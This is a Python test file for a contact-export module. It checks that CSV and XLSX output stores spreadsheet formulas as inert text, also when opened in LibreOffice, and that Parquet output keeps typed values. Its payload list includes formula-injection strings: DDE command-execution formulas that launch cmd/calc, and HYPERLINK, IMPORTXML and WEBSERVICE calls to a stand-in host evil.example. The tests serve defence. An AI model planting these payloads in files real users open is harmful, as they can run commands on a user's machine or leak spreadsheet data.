"""Formulas in every column of every kind of file stay text, also in LibreOffice (C16); Parquet has types."""

from __future__ import annotations

import csv
import re
import shutil
import subprocess
import zipfile
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import duckdb
import pytest

from scrapersky.destinations.contact_columns import CONTACT_COLUMNS
from scrapersky.destinations.contact_file import write_contacts
from scrapersky.extract.text.formula_cells import original_cell

FORMULAS = (
    "=1+1", "=SUM(A1:A9)", '=HYPERLINK("http://evil.example","x")', "=cmd|' /C calc'!A0", "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "@A1", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1",
    "＝1+1", "＋1", "－1", "＠SUM(1)", '="a"&"b"', "=IMPORTXML(\"http://evil.example\",\"//a\")",
    '=WEBSERVICE("http://evil.example")', "=DDE(\"cmd\";\"/C calc\";\"x\")", "=1;=2", "'=1+1",
    '"=1+1"', "=\u200b1",
    "\ufeff=1+1", "=A1", "=1E5", "+441234", "-5", "=-1", "=+1", "=@x", "=TODAY()", "=NOW()", "=RAND()",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!''", "=INDIRECT(\"A1\")",
)  # fmt: skip


def rows() -> list[dict[str, Any]]:
    return [dict.fromkeys(CONTACT_COLUMNS, formula) for formula in FORMULAS]


def test_there_are_forty_of_them() -> None:
    assert len(set(FORMULAS)) == 40


def test_no_cell_of_a_csv_file_begins_a_formula_and_all_values_come_back(tmp_path: Path) -> None:
    write_contacts(tmp_path / "x.csv", rows())
    with (tmp_path / "x.csv").open(newline="") as file:
        _, *lines = csv.reader(file)
    assert [{original_cell(cell) for cell in line} for line in lines] == [{formula} for formula in FORMULAS]
    assert not [cell for line in lines for cell in line if cell[:1] in "=+-@\t\r\n＝＋－＠"]


def test_every_cell_of_a_workbook_is_text(tmp_path: Path) -> None:
    write_contacts(tmp_path / "x.xlsx", rows())
    with zipfile.ZipFile(tmp_path / "x.xlsx") as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    assert "<f " not in sheet
    assert sheet.count('t="inlineStr"') == (len(FORMULAS) + 1) * len(CONTACT_COLUMNS)


@pytest.mark.reliability
@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_libreoffice_reads_no_formula(tmp_path: Path, suffix: str) -> None:
    office = shutil.which("soffice") or shutil.which("libreoffice")
    if office is None:
        pytest.skip("LibreOffice is not installed (apt-get install libreoffice-calc-nogui)")
    write_contacts(tmp_path / f"x.{suffix}", rows())
    # The text form of a spreadsheet names every formula, and the type of every cell.
    profile = f"-env:UserInstallation=file://{tmp_path}/profile"
    command = [office, profile, "--headless", "--convert-to", "fods", "--outdir", str(tmp_path / "out")]
    subprocess.run([*command, str(tmp_path / f"x.{suffix}")], check=True, timeout=300, capture_output=True)
    text = (tmp_path / "out" / "x.fods").read_text()
    assert "table:formula" not in text
    # Equal cells side by side are written once, so there is at least one for each row.
    assert set(re.findall(r'office:value-type="(\w+)"', text)) == {"string"}
    assert text.count('office:value-type="string"') >= len(FORMULAS)


def test_a_parquet_file_has_types_and_the_very_values(tmp_path: Path) -> None:
    moment = datetime(2026, 11, 18, 9, 30, tzinfo=UTC)
    contact = {
        "email": "=1+1",
        "confidence": 0.75,
        "email_validation_score": 90,
        "tags": ["a", "b"],
        "social_urls": {"x": "https://x.example"},
        "last_seen_at": moment,
    }
    write_contacts(tmp_path / "x.parquet", [contact, {}])
    relation = duckdb.read_parquet(str(tmp_path / "x.parquet"))
    types = dict(zip(relation.columns, map(str, relation.types), strict=True))
    assert list(relation.columns) == list(CONTACT_COLUMNS)
    assert (types["confidence"], types["email_validation_score"]) == ("DOUBLE", "SMALLINT")
    assert (types["tags"], types["last_seen_at"]) == ("VARCHAR[]", "TIMESTAMP")
    first, second = (dict(zip(relation.columns, row, strict=True)) for row in relation.fetchall())
    assert (first["email"], first["confidence"], first["tags"]) == ("=1+1", 0.75, ["a", "b"])
    assert first["last_seen_at"] == moment.replace(tzinfo=None)
    assert second["email"] is None
